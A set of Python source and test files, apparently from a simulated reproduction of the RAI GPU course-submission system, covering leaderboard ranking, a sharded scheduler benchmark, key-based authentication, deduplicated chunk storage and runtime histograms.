        assert [row["rank"] for row in board] == [1, 2, 3]

    def test_limit(self, ranking):
        assert len(ranking.leaderboard(limit=2)) == 2

    def test_team_rank(self, ranking):
        assert ranking.team_rank("alpha") == 2
        assert ranking.team_rank("ghost") is None

    def test_resubmission_overwrites(self, ranking):
        """§V: final timing 'overwrites existing timing records'."""
        ranking.record_final(team="charlie", internal_time=0.2,
                             instructor_time=0.21, correctness=1.0,
                             username="x", job_id="j2", at=200.0)
        assert ranking.team_rank("charlie") == 1
        assert len(ranking) == 3   # still one row per team

    def test_overwrite_even_if_slower(self, ranking):
        """The paper overwrites — it does not keep the best."""
        ranking.record_final(team="bravo", internal_time=5.0,
                             instructor_time=5.0, correctness=1.0,
                             username="x", job_id="j3", at=200.0)
        assert ranking.team_rank("bravo") == 3


class TestAnonymizedView:
    def test_own_team_visible_others_hidden(self, ranking):
        view = ranking.anonymized_view("alpha")
        own = [row for row in view if row["is_you"]]
        others = [row for row in view if not row["is_you"]]
        assert len(own) == 1 and own[0]["team"] == "alpha"
        assert all(row["team"].startswith("team-") for row in others)
        assert all("bravo" not in row["team"] for row in others)

    def test_times_still_visible(self, ranking):
        """Students 'see other teams' anonymized runtimes' (§VI)."""
        view = ranking.anonymized_view("alpha")
        assert [row["internal_time"] for row in view] == [0.4, 0.9, 2.5]

    def test_anonymous_labels_stable(self, ranking):
        a = ranking.anonymized_view("alpha")
        b = ranking.anonymized_view("alpha")
        assert [r["team"] for r in a] == [r["team"] for r in b]

    def test_labels_differ_between_teams(self, ranking):
        view = ranking.anonymized_view("alpha")
        others = [r["team"] for r in view if not r["is_you"]]
        assert len(set(others)) == len(others)


class TestTopRuntimes:
    def test_figure2_source(self, ranking):
        assert ranking.top_runtimes(2) == [0.4, 0.9]
        assert ranking.top_runtimes(30) == [0.4, 0.9, 2.5]
