"""Shard-scale workload: submission throughput across control-plane shards.

The single-queue control plane has one structural ceiling: every dispatch
runs the fair-share scheduler's :meth:`~repro.sched.JobScheduler.select`
over the *whole* backlog — an O(depth) scan plus a DRR pass over every
queued team.  At deadline-storm depth that scan **is** the control plane's
cost; workers, containers, and the docdb are rounding error next to it.

:func:`run_shard_workload` drives that exact hot path through the real
sharded plane — :class:`~repro.shard.plane.ShardedControlPlane` over a
genuine broker, :class:`~repro.shard.steal.StealingConsumer` executors,
and a :class:`~repro.docdb.sharded.ShardedCollection` for the sampled
submission records — with a *fixed* worker fleet spread round-robin over
``partitions`` home partitions.  Capacity is constant across the ladder;
only the control plane's parallelism changes, so the submissions/s ratio
between partition counts is a clean measure of what sharding buys: each
partition's scheduler scans only its own ~1/N of the backlog over ~1/N
of the teams.

Two determinism guards ride along:

- :func:`control_plane_digest` folds a full ``RaiSystem`` storm's results
  into a SHA-256 digest.  :data:`GOLDEN_DIGEST` was captured on the
  pre-shard tree; the bench (and the tier-1 smoke) assert that the default
  config *and* ``shards=1`` still reproduce it byte-for-byte — the
  "N=1 is byte-identical to today" contract.
- Every :class:`ShardResult` carries a delivery-order trace digest, and
  same-seed sharded runs must agree with each other.
"""

from __future__ import annotations

import hashlib
import time
from dataclasses import dataclass, field
from typing import List, Optional

import numpy as np

from repro.broker.broker import MessageBroker
from repro.broker.message import message_pool, reset_message_ids
from repro.core.job import reset_job_ids
from repro.docdb.database import DocumentDB
from repro.obs.context import reset_obs_ids
from repro.obs.metrics import MetricsRegistry
from repro.sched import JobScheduler, RuntimeEstimator, SchedulerPolicy
from repro.shard import ShardMap, ShardedControlPlane
from repro.sim import Simulator

#: Delivery-order digest of the reference storm.
#: ``control_plane_digest()`` must still produce this on the default
#: config and on ``SystemConfig(shards=1)`` — sharding off is not merely
#: "equivalent", it is the same machine.  Re-captured when the build
#: artifact cache landed: cached resubmission builds legitimately
#: re-time and re-place downstream work (the previous pre-cache value
#: was 71d365bccfb90a486220a01387e56bc3e232418e239018874a34f5d7808d17ed).
GOLDEN_DIGEST = \
    "715d5ada1b1addc86826badfc41a8b86ebaae8e3a134f785ee2cd5083ad51653"


def control_plane_digest(n_teams: int = 6, jobs_per_team: int = 3,
                         num_workers: int = 3, seed: int = 11,
                         config=None):
    """Run a small full-system storm; digest the per-job outcomes.

    Returns ``(hexdigest, sorted statuses, n_results)``.  The digest
    covers job id, final status, worker id, and queue/finish timestamps
    for every submission, sorted by job id — any reordering, re-timing,
    or re-placement of work under a config change shows up here.
    """
    from repro.core.system import RaiSystem

    reset_message_ids()
    reset_job_ids()
    reset_obs_ids()
    message_pool.clear()
    system = RaiSystem.standard(num_workers=num_workers, seed=seed,
                                config=config)
    gap = system.config.rate_limit_seconds + 5.0
    results = []

    def student(team_index: int):
        team = f"team{team_index:02d}"
        client = system.new_client(team=team, username=f"{team}-student")
        client.stage_project({
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
            "main.cu": ("// @rai-sim quality=0.9 impl=im2col\n"
                        + f"// {team}\n" * 40),
        })
        yield system.sim.timeout(2.0 * team_index)
        for k in range(jobs_per_team):
            if k:
                yield system.sim.timeout(gap)
            result = yield from client.submit()
            results.append(result)

    system.run_all([student(i) for i in range(n_teams)])

    digest = hashlib.sha256()
    for r in sorted(results, key=lambda x: x.job_id):
        digest.update(("%s;%s;%s;%r;%r"
                       % (r.job_id, r.status.value, r.worker_id,
                          r.queued_at, r.finished_at)).encode())
    statuses = sorted(set(r.status.value for r in results))
    return digest.hexdigest(), statuses, len(results)


@dataclass(frozen=True)
class ShardScale:
    """One operating point of the shard bench."""

    name: str
    n_teams: int
    n_submissions: int          # total across all teams
    #: Total executor fleet — *not* per partition.  Held constant across
    #: the partition ladder so throughput ratios isolate the control
    #: plane.
    n_workers: int
    worker_slots: int = 4
    #: Mean gap between one team's submissions (sim seconds).  Small, so
    #: the storm front-loads and the backlog actually gets deep.
    mean_think_s: float = 0.05
    #: Mean per-submission service time at an executor slot (sim seconds).
    mean_service_s: float = 0.5
    #: Record one in N completions to the sharded submissions collection.
    docdb_sample: int = 8


SHARD_SMOKE = ShardScale("smoke", n_teams=16, n_submissions=600,
                         n_workers=4, mean_service_s=0.3)
#: The bench tier: a deadline storm deep enough that the single-queue
#: scheduler scan dominates wall time.
SHARD_STORM = ShardScale("storm", n_teams=64, n_submissions=4_000,
                         n_workers=8)


@dataclass
class ShardResult:
    """What one partition-count run reports back to the bench."""

    scale: ShardScale
    partitions: int
    submissions: int
    wall_s: float
    sim_duration_s: float
    trace_digest: str
    routed: List[int] = field(default_factory=list)
    steals: int = 0
    rebalanced: int = 0
    dispatched: int = 0
    peak_queue_depth: int = 0
    docdb_docs: int = 0

    @property
    def submissions_per_s(self) -> float:
        return self.submissions / self.wall_s if self.wall_s else 0.0

    def to_dict(self) -> dict:
        return {
            "scale": {"name": self.scale.name,
                      "n_teams": self.scale.n_teams,
                      "n_submissions": self.scale.n_submissions,
                      "n_workers": self.scale.n_workers},
            "partitions": self.partitions,
            "submissions": self.submissions,
            "wall_s": round(self.wall_s, 3),
            "sim_duration_s": round(self.sim_duration_s, 1),
            "submissions_per_s": round(self.submissions_per_s),
            "routed": self.routed,
            "steals": self.steals,
            "rebalanced": self.rebalanced,
            "dispatched": self.dispatched,
            "peak_queue_depth": self.peak_queue_depth,
            "docdb_docs": self.docdb_docs,
            "trace_digest": self.trace_digest,
        }


def run_shard_workload(scale: ShardScale, partitions: int,
                       seed: int = 408, shard_seed: int = 0,
                       steal_threshold: int = 4) -> ShardResult:
    """Drive one storm through the sharded plane; returns the metrics.

    ``partitions=1`` is the single-queue baseline: one topic, one channel,
    one scheduler instance scanning the whole backlog — structurally the
    unsharded control plane with the routing layer's (constant) overhead
    included, which keeps the comparison honest.
    """
    if partitions < 1:
        raise ValueError("partitions must be >= 1")
    reset_message_ids()
    wall_start = time.perf_counter()
    sim = Simulator()
    metrics = MetricsRegistry()
    broker = MessageBroker(sim, metrics=metrics)
    db = DocumentDB(sim, metrics=metrics)

    shard_map = ShardMap(partitions, seed=shard_seed)
    plane = ShardedControlPlane(
        broker, shard_map, metrics=metrics,
        steal_threshold=steal_threshold,
        scheduler_factory=lambda p: JobScheduler(
            lambda: sim.now, SchedulerPolicy(), RuntimeEstimator()))
    submissions = db.shard_collection("submissions", shard_map)
    submissions.create_index("job_id")

    total = scale.n_submissions
    digest = hashlib.sha256()
    done = sim.event()
    state = {"completed": 0, "peak": 0}

    root = np.random.SeedSequence(seed)
    team_seeds = root.spawn(scale.n_teams)
    worker_rng = np.random.default_rng(
        np.random.SeedSequence(entropy=root.entropy, spawn_key=(0x57F,)))

    per_team = total // scale.n_teams
    remainder = total - per_team * scale.n_teams

    def team_proc(idx: int, n_subs: int):
        team = "team%04d" % idx
        _, topic = plane.route(team)
        rng = np.random.default_rng(team_seeds[idx])
        thinks = rng.exponential(scale.mean_think_s, size=n_subs).tolist()
        timeout = sim.timeout
        publish = broker.publish
        base = idx * (per_team + 1)
        for k in range(n_subs):
            yield timeout(thinks[k])
            publish(topic, {"j": base + k, "team": team, "t": sim.now})

    def worker_proc(wid: int, partition: int, service_times: List[float]):
        consumer = plane.consumer(partition)
        timeout = sim.timeout
        update = digest.update
        sample = scale.docdb_sample
        service = iter(service_times)
        while state["completed"] < total:
            msg = consumer.try_get()
            if msg is None:
                msg = yield consumer.get()
                if msg is None:
                    break
            yield timeout(next(service))
            body = msg.body
            now = sim.now
            n = state["completed"] = state["completed"] + 1
            update(b"%d;%d;%r;%d" % (body["j"], wid, now, msg.attempts))
            plane.note_completion(body["team"], now - body["t"])
            if n % sample == 0:
                submissions.insert_one({"job_id": body["j"],
                                        "team": body["team"],
                                        "finished_at": now})
            if n % 256 == 0:
                depth = plane.queue_depth()
                if depth > state["peak"]:
                    state["peak"] = depth
            consumer.ack_release(msg)
            if n >= total:
                done.succeed()
                break
        consumer.close()

    for idx in range(scale.n_teams):
        n_subs = per_team + (1 if idx < remainder else 0)
        if n_subs:
            sim.process(team_proc(idx, n_subs))
    n_slots = scale.n_workers * scale.worker_slots
    for w in range(n_slots):
        # Each slot draws an over-provisioned service-time block up front
        # from the shared worker stream, so the *sequence* of draws is
        # identical regardless of partition count or interleaving.
        block = worker_rng.exponential(
            scale.mean_service_s,
            size=max(64, 4 * total // n_slots)).tolist()
        sim.process(worker_proc(w, w % partitions, block))

    sim.run(until=done)
    wall = time.perf_counter() - wall_start
    return ShardResult(
        scale=scale,
        partitions=partitions,
        submissions=state["completed"],
        wall_s=wall,
        sim_duration_s=sim.now,
        trace_digest=digest.hexdigest(),
        routed=list(plane.router.routed),
        steals=sum(plane.steals_in),
        rebalanced=sum(plane.rebalanced_in),
        dispatched=sum(s.total_dispatched for s in plane.schedulers
                       if s is not None),
        peak_queue_depth=state["peak"],
        docdb_docs=len(submissions),
    )


__all__ = [
    "GOLDEN_DIGEST", "control_plane_digest",
    "ShardScale", "ShardResult", "SHARD_SMOKE", "SHARD_STORM",
    "run_shard_workload",
]
