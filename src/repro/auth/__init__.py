"""Authentication and the key-delivery tooling.

"To prevent RAI resources from being consumed by people who are not
registered for the course, each student is required to have an
authorization key" (§VI).  The subpackage covers the whole flow the paper
describes:

- generation of ``RAI_ACCESS_KEY`` / ``RAI_SECRET_KEY`` pairs per student
  or team (:mod:`repro.auth.keys`);
- HMAC-SHA256 request signing and server-side verification
  (:mod:`repro.auth.signing`);
- the client's ``.rai.profile`` file (:mod:`repro.auth.profile`);
- roster parsing (``firstname,lastname,userid`` CSV) and the templated
  authorization email sent to every student (Listing 3), delivered through
  a recorded outbox (:mod:`repro.auth.roster`, :mod:`repro.auth.email`).
"""

from repro.auth.keys import Credential, KeyStore, generate_key
from repro.auth.signing import sign_request, verify_request
from repro.auth.profile import RaiProfile, parse_profile, render_profile
from repro.auth.roster import RosterEntry, parse_roster, render_roster
from repro.auth.email import EmailMessage, Outbox, KeyMailer, AUTH_EMAIL_TEMPLATE

__all__ = [
    "Credential",
    "KeyStore",
    "generate_key",
    "sign_request",
    "verify_request",
    "RaiProfile",
    "parse_profile",
    "render_profile",
    "RosterEntry",
    "parse_roster",
    "render_roster",
    "EmailMessage",
    "Outbox",
    "KeyMailer",
    "AUTH_EMAIL_TEMPLATE",
]
