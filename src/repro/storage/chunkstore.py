"""Content-addressed chunk storage for deduplicated uploads.

The course's dominant traffic is *re*-submission: the same team uploading
the same project dozens of times with small edits (§V, Figure 4).  The
seed reproduction re-uploaded the full archive every time, so simulated
upload seconds and real object-store memory both grew with the product of
students × attempts.  This module applies the git-style fix (cf.
arXiv:2510.06363, and Ray's shared immutable object store,
arXiv:1712.05889): ``pack_tree`` output is split into fixed-size chunks
keyed by SHA-256, the store keeps each unique chunk exactly once with a
reference count, and an upload transfers only the chunks the store has
never seen plus a small manifest.

A :class:`Manifest` is the content address of a whole payload — the
ordered list of chunk digests.  A :class:`ChunkedObject` is a
:class:`~repro.storage.objects.StoredObject` whose payload lives in the
chunk store and is assembled on demand, so a thousand near-identical
archives cost roughly one archive of real memory.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.errors import StorageError
from repro.storage.objects import StoredObject

#: Default chunk size.  Real systems use megabytes; simulated projects are
#: kilobytes, so the default keeps several chunks per archive (dedup has
#: nothing to share when every payload is a single chunk).
DEFAULT_CHUNK_BYTES = 4096


def hash_chunk(chunk: bytes) -> str:
    """SHA-256 hex digest — the chunk's content address."""
    return hashlib.sha256(chunk).hexdigest()


def digest_file_map(files: Dict[str, str]) -> str:
    """Canonical digest of a ``{path: content digest}`` file map.

    The source-tree identity used end to end: the client stamps it on the
    job, the worker keys build-cache entries by it, and the scheduler's
    hit predictor matches on it.
    """
    acc = hashlib.sha256()
    for path in sorted(files):
        acc.update(path.encode("utf-8"))
        acc.update(b"\0")
        acc.update(files[path].encode("ascii"))
        acc.update(b"\n")
    return acc.hexdigest()


def split_chunks(data: bytes, chunk_size: int) -> List[bytes]:
    """Split ``data`` into fixed-size chunks (last one may be short)."""
    if chunk_size <= 0:
        raise ValueError("chunk_size must be positive")
    return [data[i:i + chunk_size] for i in range(0, len(data), chunk_size)]


@dataclass(frozen=True)
class ChunkRef:
    """One chunk's address and length inside a manifest."""

    digest: str
    size: int


class Manifest:
    """The ordered chunk list describing one payload.

    The manifest is what a client keeps from its previous upload and what
    travels instead of the payload: a resubmission sends only the chunks
    whose digests the store is missing.

    ``files`` optionally maps each archived file path to its content
    digest.  Archive bytes embed mtimes, so two packs of the same tree
    chunk differently — the file map is the *stable* content view: it
    lets the worker derive a source-tree digest without a second unpack,
    and lets a delta encode "which files changed" instead of "which
    chunk boundaries moved".
    """

    __slots__ = ("chunk_size", "total_size", "chunks", "digest", "files")

    def __init__(self, chunk_size: int, chunks: List[ChunkRef],
                 files: Optional[Dict[str, str]] = None):
        self.chunk_size = int(chunk_size)
        self.chunks = list(chunks)
        self.total_size = sum(c.size for c in self.chunks)
        self.files: Dict[str, str] = dict(files or {})
        payload_id = hashlib.sha256()
        for ref in self.chunks:
            payload_id.update(ref.digest.encode("ascii"))
        self.digest = payload_id.hexdigest()

    @classmethod
    def from_bytes(cls, data: bytes,
                   chunk_size: int = DEFAULT_CHUNK_BYTES,
                   files: Optional[Dict[str, str]] = None) -> "Manifest":
        """Chunk ``data`` locally (no store needed — a pure function)."""
        refs = [ChunkRef(hash_chunk(c), len(c))
                for c in split_chunks(data, chunk_size)]
        return cls(chunk_size, refs, files=files)

    def wire_size(self) -> int:
        """Bytes the manifest itself costs on the wire (JSON encoding)."""
        return len(json.dumps(self.to_doc()).encode("utf-8"))

    def to_doc(self) -> dict:
        doc = {
            "chunk_size": self.chunk_size,
            "total_size": self.total_size,
            "chunks": [[c.digest, c.size] for c in self.chunks],
        }
        if self.files:
            doc["files"] = dict(self.files)
        return doc

    @classmethod
    def from_doc(cls, doc: dict) -> "Manifest":
        return cls(doc["chunk_size"],
                   [ChunkRef(d, s) for d, s in doc["chunks"]],
                   files=doc.get("files"))

    def tree_digest(self) -> Optional[str]:
        """Digest over the sorted ``(path, content digest)`` file map.

        Stable across re-packs of an identical tree (unlike the chunk
        digest, which sees archive mtimes); ``None`` when the manifest
        carries no file map.
        """
        if not self.files:
            return None
        return digest_file_map(self.files)

    def delta(self, base: Optional["Manifest"]) -> List[ChunkRef]:
        """Chunks of ``self`` not present in ``base`` (the client-side
        resubmission delta)."""
        if base is None:
            return list(self.chunks)
        known = {c.digest for c in base.chunks}
        return [c for c in self.chunks if c.digest not in known]

    def delta_doc(self, base: Optional["Manifest"]) -> dict:
        """Git-style delta encoding of ``self`` against ``base``.

        Chunks the base already lists travel as an integer index into the
        base's chunk list; only novel chunks carry their full digest.
        The file map likewise ships only changed/added entries plus the
        names of removed files.  ``delta_wire_size`` of this doc is what
        the manifest costs on the wire when the server holds the base.
        """
        if base is None:
            return self.to_doc()
        index = {c.digest: i for i, c in enumerate(base.chunks)}
        chunks: List[object] = []
        for ref in self.chunks:
            pos = index.get(ref.digest)
            chunks.append(pos if pos is not None else [ref.digest, ref.size])
        doc: dict = {
            "chunk_size": self.chunk_size,
            "total_size": self.total_size,
            "base": base.digest,
            "chunks": chunks,
        }
        if self.files:
            changed = {p: d for p, d in self.files.items()
                       if base.files.get(p) != d}
            removed = sorted(p for p in base.files if p not in self.files)
            files_delta: dict = {}
            if changed:
                files_delta["changed"] = changed
            if removed:
                files_delta["removed"] = removed
            if files_delta:
                doc["files"] = files_delta
        return doc

    def delta_wire_size(self, base: Optional["Manifest"]) -> int:
        """Wire bytes of the manifest when sent as a delta against
        ``base`` (falls back to the full encoding without one)."""
        return len(json.dumps(self.delta_doc(base)).encode("utf-8"))

    def __len__(self) -> int:
        return len(self.chunks)

    def __repr__(self):
        return (f"<Manifest {self.digest[:8]} {len(self.chunks)} chunks "
                f"{self.total_size}B>")


class ChunkStore:
    """Reference-counted storage of unique chunks.

    Chunks are shared across every manifest (and therefore across
    students, attempts, and buckets); a chunk is freed only when the last
    manifest referencing it is released — so lifecycle expiry of one
    upload can never corrupt another that happens to share content.
    """

    def __init__(self, chunk_size: int = DEFAULT_CHUNK_BYTES):
        self.chunk_size = int(chunk_size)
        self._chunks: Dict[str, bytes] = {}
        self._refs: Dict[str, int] = {}
        self.total_logical_bytes = 0   # live manifest bytes (pre-dedup)
        self.total_ingested_bytes = 0  # unique bytes ever accepted
        self.total_deduped_bytes = 0   # bytes dedup avoided storing

    # -- negotiation ---------------------------------------------------------

    def has_chunk(self, digest: str) -> bool:
        return digest in self._chunks

    def missing_refs(self, manifest: Manifest) -> List[ChunkRef]:
        """Chunks of ``manifest`` the store does not hold yet — exactly
        what an uploader must put on the wire."""
        seen = set()
        out = []
        for ref in manifest.chunks:
            if ref.digest not in self._chunks and ref.digest not in seen:
                seen.add(ref.digest)
                out.append(ref)
        return out

    def missing_bytes(self, manifest: Manifest) -> int:
        return sum(ref.size for ref in self.missing_refs(manifest))

    # -- ingest / release ----------------------------------------------------

    def store(self, data: bytes,
              chunk_size: Optional[int] = None) -> Tuple[Manifest, int]:
        """Ingest a payload; returns ``(manifest, new_unique_bytes)``.

        Only chunks the store has never seen cost memory; every chunk of
        the manifest (new or shared) gains a reference.
        """
        manifest = Manifest.from_bytes(data, chunk_size or self.chunk_size)
        new_bytes = 0
        offset = 0
        for ref in manifest.chunks:
            if ref.digest not in self._chunks:
                self._chunks[ref.digest] = data[offset:offset + ref.size]
                self._refs[ref.digest] = 0
                new_bytes += ref.size
            else:
                self.total_deduped_bytes += ref.size
            self._refs[ref.digest] += 1
            offset += ref.size
        self.total_logical_bytes += manifest.total_size
        self.total_ingested_bytes += new_bytes
        return manifest, new_bytes

    def release(self, manifest: Manifest) -> int:
        """Drop one reference per chunk; returns bytes actually freed."""
        freed = 0
        for ref in manifest.chunks:
            count = self._refs.get(ref.digest)
            if count is None:
                continue
            if count <= 1:
                del self._refs[ref.digest]
                freed += len(self._chunks.pop(ref.digest, b""))
            else:
                self._refs[ref.digest] = count - 1
        self.total_logical_bytes -= manifest.total_size
        return freed

    def assemble(self, manifest: Manifest) -> bytes:
        """Rebuild the payload bytes a manifest describes."""
        parts = []
        for ref in manifest.chunks:
            chunk = self._chunks.get(ref.digest)
            if chunk is None:
                raise StorageError(
                    f"chunk {ref.digest[:12]} missing from store "
                    f"(manifest {manifest.digest[:12]})")
            parts.append(chunk)
        return b"".join(parts)

    # -- recovery ------------------------------------------------------------

    def rebuild_refcounts(self, manifests: List[Manifest]) -> dict:
        """Recompute ``_refs`` from the live manifests after a restore.

        Refcounts are soft state — the ground truth is "which manifests
        are still reachable from a bucket".  Chunks no manifest references
        (their objects were deleted after the chunk was snapshotted) are
        dropped; logical-byte accounting is recomputed the same way.
        """
        refs: Dict[str, int] = {}
        logical = 0
        for manifest in manifests:
            for ref in manifest.chunks:
                refs[ref.digest] = refs.get(ref.digest, 0) + 1
            logical += manifest.total_size
        orphaned = [d for d in self._chunks if d not in refs]
        freed = 0
        for digest in orphaned:
            freed += len(self._chunks.pop(digest))
        self._refs = refs
        self.total_logical_bytes = logical
        return {
            "manifests": len(manifests),
            "chunks": len(self._chunks),
            "orphaned_chunks": len(orphaned),
            "orphaned_bytes": freed,
            "logical_bytes": logical,
        }

    # -- observability -------------------------------------------------------

    @property
    def unique_chunks(self) -> int:
        return len(self._chunks)

    @property
    def unique_bytes(self) -> int:
        return sum(len(c) for c in self._chunks.values())

    def dedup_ratio(self) -> float:
        """Live logical bytes per byte actually held (1.0 = no sharing)."""
        unique = self.unique_bytes
        if unique == 0:
            return 1.0
        return self.total_logical_bytes / unique

    def stats(self) -> dict:
        return {
            "chunk_size": self.chunk_size,
            "unique_chunks": self.unique_chunks,
            "unique_bytes": self.unique_bytes,
            "logical_bytes": self.total_logical_bytes,
            "deduped_bytes": self.total_deduped_bytes,
            "dedup_ratio": round(self.dedup_ratio(), 4),
        }


class ChunkedObject(StoredObject):
    """A stored object whose payload lives in the chunk store.

    ``data`` is assembled on demand, so N manifest-backed objects sharing
    content hold it once; ``size`` and ``head()`` report the full logical
    payload, keeping bucket accounting identical to a plain put.
    """

    __slots__ = ("manifest", "_chunk_store")

    def __init__(self, key: str, manifest: Manifest,
                 chunk_store: ChunkStore, created_at: float,
                 metadata: Optional[Dict[str, str]] = None,
                 etag: Optional[str] = None, padding_bytes: int = 0):
        if padding_bytes < 0:
            raise ValueError("padding_bytes must be >= 0")
        self.key = key
        self.manifest = manifest
        self._chunk_store = chunk_store
        self.etag = etag or manifest.digest
        self.metadata = dict(metadata or {})
        self.created_at = float(created_at)
        self.last_used_at = float(created_at)
        self.padding_bytes = int(padding_bytes)

    @property
    def data(self) -> bytes:
        return self._chunk_store.assemble(self.manifest)

    @property
    def size(self) -> int:
        return self.manifest.total_size + self.padding_bytes

    def __repr__(self):
        return (f"<ChunkedObject {self.key!r} {self.size}B "
                f"chunks={len(self.manifest)} etag={self.etag[:8]}>")
