"""Listings 1 & 2 — the two canonical build files, executed verbatim.

Listing 1 (the default rai-build.yml) must: configure with CMake, build
with make, run the small test10 dataset, and profile under nvprof into
``timeline.nvprof``.  Listing 2 (the enforced final-submission file) must:
copy ``/src`` to ``/build/submission_code`` and time the full-dataset run
under ``/usr/bin/time``.
"""

from benchmarks.conftest import print_banner
from repro.core.job import JobKind, JobStatus
from repro.core.system import RaiSystem
from repro.vfs import VirtualFileSystem, unpack_tree

FILES = {
    "main.cu": "// @rai-sim quality=0.85 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
    "USAGE": "see report",
    "report.pdf": b"%PDF-1.4" + bytes(1024),
}


def run_both_listings():
    system = RaiSystem.standard(num_workers=1, seed=3)
    client = system.new_client(team="listing-team")
    client.stage_project(FILES)
    dev = system.run(client.submit(JobKind.RUN))

    def wait(sim):
        yield sim.timeout(31)

    system.run(wait(system.sim))
    final = system.run(client.submit(JobKind.SUBMIT))
    return system, client, dev, final


def _build_fs(client, result):
    fs = VirtualFileSystem()
    unpack_tree(client.download_build(result), fs, "/")
    return fs


def test_listings_default_and_final_build_files(benchmark):
    system, client, dev, final = benchmark.pedantic(
        run_both_listings, rounds=1, iterations=1)

    print_banner("Listings 1 & 2 — canonical build files executed")
    dev_fs = _build_fs(client, dev)
    final_fs = _build_fs(client, final)

    checks = [
        ("L1: job succeeded", dev.status is JobStatus.SUCCEEDED),
        ("L1: echo 'Building project'",
         "Building project" in dev.stdout_text()),
        ("L1: cmake configured", "Configuring done" in dev.stdout_text()),
        ("L1: make built ece408", dev_fs.isfile("/ece408")),
        ("L1: test10 run printed internal timer",
         dev.internal_time is not None),
        ("L1: nvprof wrote timeline.nvprof",
         dev_fs.isfile("/timeline.nvprof")),
        ("L2: job succeeded", final.status is JobStatus.SUCCEEDED),
        ("L2: echo 'Submitting project'",
         "Submitting project" in final.stdout_text()),
        ("L2: /src copied to /build/submission_code",
         final_fs.isfile("/submission_code/main.cu")),
        ("L2: full dataset (10000) used",
         "10000 images" in final.stdout_text()),
        ("L2: /usr/bin/time output captured for instructors",
         final.time_command_output is not None),
        ("L2: ranking row recorded",
         system.ranking.team_rank("listing-team") == 1),
    ]
    for label, ok in checks:
        print(f"  [{'x' if ok else ' '}] {label}")
    assert all(ok for _, ok in checks)

    print(f"\n  dev internal timer:   {dev.internal_time:.3f}s (test10)")
    print(f"  final internal timer: {final.internal_time:.3f}s (testfull)")
    print(f"  final /usr/bin/time:  {final.time_command_output}")
    assert final.internal_time > dev.internal_time
