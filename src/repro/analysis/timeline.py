"""Submission timelines (Figure 4: submissions per hour, last two weeks)."""

from __future__ import annotations

from typing import List, Sequence, Tuple

import numpy as np

HOUR = 3600.0


def hourly_counts(times: Sequence[float], start: float,
                  end: float) -> Tuple[np.ndarray, np.ndarray]:
    """Count events per hour over ``[start, end)``.

    Returns ``(hour_starts, counts)``.
    """
    if end <= start:
        raise ValueError("end must be after start")
    times = np.asarray(list(times), dtype=float)
    n_hours = int(np.ceil((end - start) / HOUR))
    edges = start + np.arange(n_hours + 1) * HOUR
    counts, _ = np.histogram(times, bins=edges)
    return edges[:-1], counts


def peak_hour(times: Sequence[float], start: float, end: float) -> dict:
    starts, counts = hourly_counts(times, start, end)
    if counts.size == 0:
        return {"start": start, "count": 0}
    idx = int(np.argmax(counts))
    return {"start": float(starts[idx]), "count": int(counts[idx])}


_BLOCKS = " ▁▂▃▄▅▆▇█"


def ascii_timeline(times: Sequence[float], start: float, end: float,
                   row_seconds: float = 24 * HOUR) -> str:
    """One text row per day, one character per hour (Figure 4 as a
    day × hour heat strip)."""
    starts, counts = hourly_counts(times, start, end)
    peak = max(int(counts.max()) if counts.size else 1, 1)
    lines = []
    per_row = int(row_seconds // HOUR)
    for row_start in range(0, len(counts), per_row):
        row = counts[row_start:row_start + per_row]
        day = int((starts[row_start] - start) // row_seconds)
        cells = "".join(
            _BLOCKS[min(len(_BLOCKS) - 1,
                        int(round((len(_BLOCKS) - 1) * c / peak)))]
            for c in row)
        lines.append(f"day {day:2d} |{cells}| {int(row.sum()):5d}")
    lines.append(f"peak: {peak} submissions/hour; "
                 f"total: {int(counts.sum())}")
    return "\n".join(lines)
