"""Runtime histograms (Figure 2: 0.1-second bins over the top 30 teams)."""

from __future__ import annotations

from typing import List, Sequence, Tuple

import numpy as np


def bin_runtimes(times: Sequence[float], bin_width: float = 0.1,
                 max_time: float = None) -> Tuple[np.ndarray, np.ndarray]:
    """Histogram ``times`` into fixed-width bins starting at 0.

    Returns ``(edges, counts)`` with ``len(edges) == len(counts) + 1``.
    """
    if bin_width <= 0:
        raise ValueError("bin_width must be positive")
    times = np.asarray(list(times), dtype=float)
    if times.size and (times < 0).any():
        raise ValueError("runtimes must be non-negative")
    top = max_time if max_time is not None else \
        (float(times.max()) if times.size else bin_width)
    n_bins = max(1, int(np.ceil(top / bin_width + 1e-9)))
    edges = np.arange(n_bins + 1) * bin_width
    counts, _ = np.histogram(times, bins=edges)
    return edges, counts


def runtime_histogram(times: Sequence[float],
                      bin_width: float = 0.1) -> List[dict]:
    """Figure 2 rows: one dict per non-empty bin."""
    edges, counts = bin_runtimes(times, bin_width)
    rows = []
    for i, count in enumerate(counts):
        if count > 0:
            rows.append({
                "lo": float(edges[i]),
                "hi": float(edges[i + 1]),
                "teams": int(count),
            })
    return rows


def ascii_histogram(times: Sequence[float], bin_width: float = 0.1,
                    width: int = 40, collapse_after: float = 2.0) -> str:
    """Terminal rendering of the Figure 2 histogram.

    Bins past ``collapse_after`` seconds are merged into one tail row so a
    2-minute outlier does not print a thousand empty lines.
    """
    times = list(times)
    if not times:
        return "(no data)"
    head = [t for t in times if t < collapse_after]
    tail = [t for t in times if t >= collapse_after]
    edges, counts = bin_runtimes(head, bin_width, max_time=collapse_after)
    peak = max(int(counts.max()) if counts.size else 1, 1)
    lines = []
    for i, count in enumerate(counts):
        bar = "█" * max(0, round(width * count / peak))
        lines.append(f"{edges[i]:5.1f}-{edges[i + 1]:4.1f}s "
                     f"|{bar:<{width}}| {count}")
    if tail:
        lines.append(f" >{collapse_after:4.1f}s  "
                     f"|{'█' * max(1, round(width * len(tail) / peak)):<{width}}| "
                     f"{len(tail)}  (slowest {max(tail):.1f}s)")
    return "\n".join(lines)
