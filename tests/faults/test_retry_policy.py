"""Unit tests for the RetryPolicy backoff/budget arithmetic."""

import numpy as np
import pytest

from repro.errors import NoSuchKey, TransientStorageError
from repro.faults import RetryPolicy
from repro.sim.kernel import Simulator


class TestBackoff:
    def test_exponential_growth_capped(self):
        policy = RetryPolicy(max_attempts=10, base_delay=1.0,
                             multiplier=2.0, max_delay=8.0, jitter=0.0)
        assert [policy.backoff(a) for a in range(1, 6)] == \
            [1.0, 2.0, 4.0, 8.0, 8.0]

    def test_jitter_bounds(self):
        policy = RetryPolicy(base_delay=1.0, multiplier=1.0, jitter=0.5)
